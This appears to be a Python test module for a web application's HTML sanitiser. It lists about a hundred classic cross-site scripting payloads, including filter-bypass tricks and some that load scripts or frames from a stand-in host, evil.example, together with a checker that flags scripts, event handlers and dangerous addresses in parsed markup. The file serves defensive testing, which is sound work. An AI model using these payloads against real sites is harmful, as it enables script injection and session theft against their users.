"""Markup that has passed sanitisers elsewhere, and a check whether it did so here."""

import re

from lxml import etree, html

#: The classic forms, each with the same effect, if it had any: a call of `alert`, or something fetched from evil.example.
ATTACKS = [
    # scripts, and tags in disguise
    "<script>alert(1)</script>", "<ScRiPt>alert(1)</sCrIpT>", "<script src=//evil.example/x.js></script>", "<script\x00>alert(1)</script>",
    "<script/x>alert(1)</script>", "<script\n>alert(1)</script\n>", "<<script>alert(1)//<</script>", "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script>alert(1)", "</p><script>alert(1)</script><p>", "<script type=module>import('//evil.example/x.js')</script>",
    '<script type="importmap">{"imports":{"django-prose-editor/editor":"//evil.example/x.js"}}</script>',
    # handlers
    "<img src=x onerror=alert(1)>", '<img src=x:x onerror="alert(1)"', "<img/src/onerror=alert(1)>", "<img src=x oNeRrOr\n=alert(1)>",
    "<body onload=alert(1)>", "<svg onload=alert(1)>", "<svg/onload=alert(1)//", "<p onclick=alert(1)>Text</p>", '<p/onmouseover="alert(1)">Text</p>',
    "<details open ontoggle=alert(1)>Text</details>", "<video><source onerror=alert(1)></video>", "<audio src=x onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)>", "<select autofocus onfocus=alert(1)>", "<marquee onstart=alert(1)>Text</marquee>",
    "<a href=/x/ onclick=alert(1)>Text der Seite</a>", '<strong style="x" onpointerenter=alert(1)>Text</strong>',
    # addresses
    '<a href="javascript:alert(1)">Text der Seite</a>', '<a href="JaVaScRiPt:alert(1)">Text der Seite</a>',
    '<a href="java\tscript:alert(1)">Text der Seite</a>', '<a href="java\nscript:alert(1)">Text der Seite</a>',
    '<a href="\x01javascript:alert(1)">Text der Seite</a>', '<a href="&#106;&#x61;vascript&colon;alert(1)">Text der Seite</a>',
    '<a href="javascript&#0000058alert(1)">Text der Seite</a>', '<a href="vbscript:msgbox(1)">Text der Seite</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">Text der Seite</a>', '<a href="view-source:javascript:alert(1)">Text der Seite</a>',
    '<a href="//evil.example/">Text der Seite</a>', '<a href="/\\evil.example/">Text der Seite</a>', '<a href="/\t/evil.example/">Text der Seite</a>',
    '<a href="https:javascript:alert(1)" target=_blank>Text der Seite</a>', '<a href="jav\u200bascript:alert(1)">Text der Seite</a>',
    '<form action="javascript:alert(1)"><button>Text</button></form>', "<button formaction=javascript:alert(1)>Text</button>",
    # frames, objects, what the head of a page may hold
    "<iframe src=javascript:alert(1)></iframe>", '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>', "<iframe src=//evil.example/></iframe>",
    "<object data=data:text/html,<script>alert(1)</script>></object>", "<embed src=//evil.example/x.swf>", "<applet code=x></applet>",
    "<base href=//evil.example/>", '<meta http-equiv=refresh content="0;url=javascript:alert(1)">', "<link rel=stylesheet href=//evil.example/x.css>",
    "<frameset onload=alert(1)><frame src=//evil.example/></frameset>", "<portal src=//evil.example/></portal>",
    # styles
    "<style>@import '//evil.example/x.css';</style>", '<p style="background:url(//evil.example/x)">Text</p>',
    '<p style="width:expression(alert(1))">Text</p>', "<style><img src='</style><img src=x onerror=alert(1)>'></style>",
    # other languages within a page, and parsers that change their mind
    "<svg><script>alert(1)</script></svg>", '<svg><a xlink:href="javascript:alert(1)"><text y=9>Text</text></a></svg>',
    "<svg><animate attributeName=href values=javascript:alert(1) /></svg>", '<svg><use href="data:image/svg+xml,<svg onload=alert(1)>"/></svg>',
    "<svg></p><style><a id='</style><img src=x onerror=alert(1)>'>", '<math href="javascript:alert(1)">Text</math>',
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=alert(1)&gt;'>",
    "<math><annotation-xml encoding=text/html><img src=x onerror=alert(1)></annotation-xml></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">', "<textarea></textarea><img src=x onerror=alert(1)></textarea>",
    '<title><p title="</title><img src=x onerror=alert(1)>">', "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<template><img src=x onerror=alert(1)></template>", "<select><template><style><!--</style><a rel='--><img src=x onerror=alert(1)>'>",
    "<!--><img src=x onerror=alert(1)>-->", "<!-- --!><img src=x onerror=alert(1)>", "<![CDATA[><img src=x onerror=alert(1)>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>", "<table><td background=javascript:alert(1)>Text</td></table>",
    # out of an attribute, a script block, a template, an address
    '"><script>alert(1)</script>', "'><img src=x onerror=alert(1)>", "<p lang='\"><script>alert(1)</script>'>Text</p>",
    '</script><script>alert(1)</script>', "\\u003c/script\\u003e<script>alert(1)</script>", "]]><script>alert(1)</script>",
    "{{ request }}{% debug %}<script>alert(1)</script>", "${alert(1)}<script>alert(1)</script>", "%3Cscript%3Ealert(1)%3C/script%3E",
    # letters that turn into others
    "＜script＞alert(1)＜/script＞", "<\u017fcript>alert(1)</\u017fcript>", "\ufeff<script>alert(1)</script>", "\u202e<script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;", "<scrıpt>alert(1)</scrıpt>",
]  # fmt: skip
#: What runs or fetches by itself. Scripts with an address are looked at apart: the admin has its own.
ACTIVE = [
    "iframe",
    "frame",
    "frameset",
    "object",
    "embed",
    "applet",
    "base",
    "portal",
    "style",
    "math",
    "marquee",
    "animate",
]
SCHEMES = re.compile(r"^[\s\x00-\x20]*(javascript|vbscript|data|view-source):", re.IGNORECASE)
ADDRESSES = ("href", "src", "action", "formaction", "data", "poster", "background", "xlink:href", "srcset")
DATA = ("application/ld+json", "application/json", "importmap")


def harm(markup: str) -> list[str]:
    """What in a page would run, or fetch from elsewhere, that this site did not put there."""
    document = html.document_fromstring(markup)
    elements = [element for element in document.iter() if isinstance(element.tag, str)]
    return [f"{etree.tostring(each)[:120]!r}" for each in elements if is_harmful(each)]


def is_harmful(element) -> bool:
    if element.tag in ACTIVE or (element.tag == "script" and not is_own(element)):
        return True
    if element.tag == "meta" and element.get("http-equiv"):
        return True
    return any(is_attack(name.lower(), value) for name, value in element.attrib.items())


def is_own(script) -> bool:
    """A file of this site, or a block of data."""
    if script.get("src"):
        return bool(re.match(r"/(?![/\\])", script.get("src")))
    return script.get("type") in DATA and "alert(1)</" not in (script.text or "")


def is_attack(name: str, value: str) -> bool:
    if name.startswith("on") or name in ("srcdoc", "style"):
        return True
    address = value.strip().replace("\\", "/").replace("\t", "")
    return name in ADDRESSES and (bool(SCHEMES.match(value)) or address.startswith("//"))
